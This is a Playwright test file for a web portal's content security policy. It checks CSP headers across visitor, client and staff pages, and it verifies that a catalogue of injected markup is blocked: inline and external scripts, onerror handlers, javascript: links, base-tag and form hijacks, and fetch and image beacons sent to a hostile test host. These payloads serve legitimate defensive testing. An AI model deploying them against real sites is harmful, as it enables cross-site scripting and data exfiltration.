import type { Page } from 'playwright/test';
import { listOwnBookings, listServices, listTransactionsOfType } from 'shared-api/contract';
import { newClient } from '../support/newClient.ts';
import type { Portal } from '../support/Portal.ts';
import { signedIn } from '../support/signedIn.ts';
import { expect, test } from '../support/test.ts';
import { watchNetwork } from '../support/watchNetwork.ts';

const visitorsPages = [
  '/',
  '/login',
  '/forget-password',
  '/register',
  '/register-corporate-organization',
  '/register-government-official',
  '/register-individual',
  '/register-family',
  '/registration-success',
  '/registration-status/code',
  '/verify-email/code',
  '/reset-password/code',
  '/customer-survey/code',
  '/invoice',
  '/offline.html',
  '/no-such-page',
];
const everybodysPages = [
  '/app/dashboard',
  '/app/services',
  '/app/activities',
  '/app/profile',
  '/app/profile/security',
];

const clientsPages = async (portal: Portal, token: string) => {
  const [service] = await portal.call(listServices, { token });
  const [booking] = await portal.call(listOwnBookings, { token });
  const { transactions } = await portal.call(listTransactionsOfType, { token, params: { type: 2 } });
  return [
    ...everybodysPages,
    '/app/client-services',
    `/app/service/${service?.id}/create-booking`,
    `/app/booking/${booking?.id}`,
    '/app/transaction-services',
    `/app/transaction-service/${transactions[0]?.transactionId}?type=2`,
  ];
};
const staffPages = (client: number) => [
  ...everybodysPages,
  '/app/clients',
  ...['profile', 'documents', 'bookings', 'transactions', 'wallet', 'activities', 'notes'].map(
    (tab) => `/app/client/${client}?tab=${tab}`,
  ),
  '/app/desk/bookings',
  '/app/desk/payments',
  '/app/desk/adjustments',
  '/app/users',
  '/app/feedback',
  '/app/audit',
  '/app/settings',
];

/** What the browser refused on every page from now on, told by itself. */
const violationsOn = async (page: Page) => {
  const seen: string[] = [];
  await page.exposeFunction('tellViolation', (what: string) => seen.push(what));
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
      const tell: unknown = Reflect.get(window, 'tellViolation');
      if (typeof tell === 'function') tell(`${effectiveDirective} ${blockedURI} on ${location.pathname}`);
    });
  });
  return seen;
};

test('every page keeps to the content security policy, whoever looks at it', async ({ page, portal }) => {
  test.setTimeout(180_000);
  const seen = await violationsOn(page);
  const quiet = watchNetwork(page);
  const opened: string[] = [];
  const open = async (paths: readonly string[]) => {
    for (const path of paths) {
      const answer = await page.goto(path);
      expect(answer?.headers()['content-security-policy'], path).toContain("script-src 'self';");
      await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
      await quiet(100);
      opened.push(path);
    }
  };
  await open(visitorsPages);
  const token = await signedIn(page, portal, portal.account('Client', 'Individual'));
  await open(await clientsPages(portal, token));
  await page.evaluate(() => localStorage.clear());
  await signedIn(page, portal, portal.account('Administrator'));
  await open(staffPages((await newClient(portal)).id));
  expect(seen).toEqual([]);

  const registry: { remotes: Record<string, { prefixes: readonly string[] }> } = await (
    await fetch(`${portal.url}/remotes.json`)
  ).json();
  const unseen = Object.values(registry.remotes)
    .flatMap(({ prefixes }) => prefixes)
    .filter((prefix) => !opened.some((path) => new RegExp(`^/${prefix}([/?]|$)`).test(path)));
  expect(unseen).toEqual([]);
});

/** Ways in which markup that found its way into a page would get a script to run, which sets `stolen`, or show what is not there. */
const injections: Readonly<
  Record<string, readonly [directive: string, inject: (elsewhere: string) => unknown]>
> = {
  'a script in the page': [
    'script-src-elem',
    () => {
      const script = document.createElement('script');
      script.textContent = 'window.stolen = true';
      document.body.append(script);
    },
  ],
  'a script of another site': [
    'script-src-elem',
    (elsewhere) => {
      const script = document.createElement('script');
      script.src = `${elsewhere}/stolen.js`;
      document.body.append(script);
    },
  ],
  'a script in a data address': [
    'script-src-elem',
    () => {
      const script = document.createElement('script');
      script.src = 'data:text/javascript,window.stolen=true';
      document.body.append(script);
    },
  ],
  'a handler of an image': [
    'script-src-attr',
    () => document.body.insertAdjacentHTML('beforeend', '<img src="/nothing" onerror="window.stolen=true">'),
  ],
  'a link with a script': [
    'script-src-elem',
    () => {
      document.body.insertAdjacentHTML(
        'beforeend',
        '<a id="trap" href="javascript:window.stolen=true">x</a>',
      );
      document.getElementById('trap')?.click();
    },
  ],
  'a style in the page': [
    'style-src-elem',
    () => {
      const style = document.createElement('style');
      style.textContent = 'input { background: url("/stolen") }';
      document.body.append(style);
    },
  ],
  'a style of an element': [
    'style-src-attr',
    () => document.body.insertAdjacentHTML('beforeend', '<p style="position: fixed; inset: 0">x</p>'),
  ],
  'a frame with a page in it': [
    'script-src-elem',
    () => {
      const frame = document.createElement('iframe');
      frame.srcdoc = '<script>parent.stolen = true</script>';
      document.body.append(frame);
    },
  ],
  'a text that is run': ['script-src', () => window.setTimeout('window.stolen = true')],
  'a worker of its own making': [
    'worker-src',
    () => new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))),
  ],
  'a plug-in': [
    'object-src',
    () => document.body.insertAdjacentHTML('beforeend', '<object data="/favicon.svg"></object>'),
  ],
  'another base for every address': [
    'base-uri',
    (elsewhere) => document.head.insertAdjacentHTML('afterbegin', `<base href="${elsewhere}">`),
  ],
  'a form that sends elsewhere': [
    'form-action',
    (elsewhere) => {
      document.body.insertAdjacentHTML('beforeend', `<form id="trap" action="${elsewhere}"></form>`);
      document.querySelector<HTMLFormElement>('form#trap')?.submit();
    },
  ],
  'a call that sends elsewhere': ['connect-src', (elsewhere) => void fetch(elsewhere).catch(() => 0)],
  'a picture that sends elsewhere': [
    'img-src',
    (elsewhere) => document.body.insertAdjacentHTML('beforeend', `<img src="${elsewhere}?token" alt="">`),
  ],
  'a frame of another site': [
    'frame-src',
    (elsewhere) => document.body.insertAdjacentHTML('beforeend', `<iframe src="${elsewhere}"></iframe>`),
  ],
};

test.describe('what is injected into a page', () => {
  test.use({ tolerated: /Content Security Policy|Refused to|EvalError/ });

  test('does nothing, whatever it is', async ({ page, hostile }) => {
    const seen = await violationsOn(page);
    for (const [what, [directive, inject]] of Object.entries(injections)) {
      await page.goto('/login');
      await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
      seen.length = 0;
      await page.evaluate(inject, hostile.url);
      await expect.poll(() => seen.map((each) => each.split(' ')[0]), what).toContain(directive);
      expect(await page.evaluate(() => 'stolen' in window), what).toBe(false);
      expect(page.url(), what).toMatch(/\/login$/);
      expect(hostile.received, what).toEqual([]);
    }
  });

  test('is not run where it came with the page itself', async ({ page }) => {
    const seen = await violationsOn(page);
    await page.route('/login', async (route) => {
      const reply = await route.fetch();
      const body = `${await reply.text()}<script>window.stolen = true</script>`;
      await route.fulfill({ response: reply, body });
    });
    await page.goto('/login');
    await expect.poll(() => seen).toEqual(['script-src-elem inline on /login']);
    expect(await page.evaluate(() => 'stolen' in window)).toBe(false);
  });
});
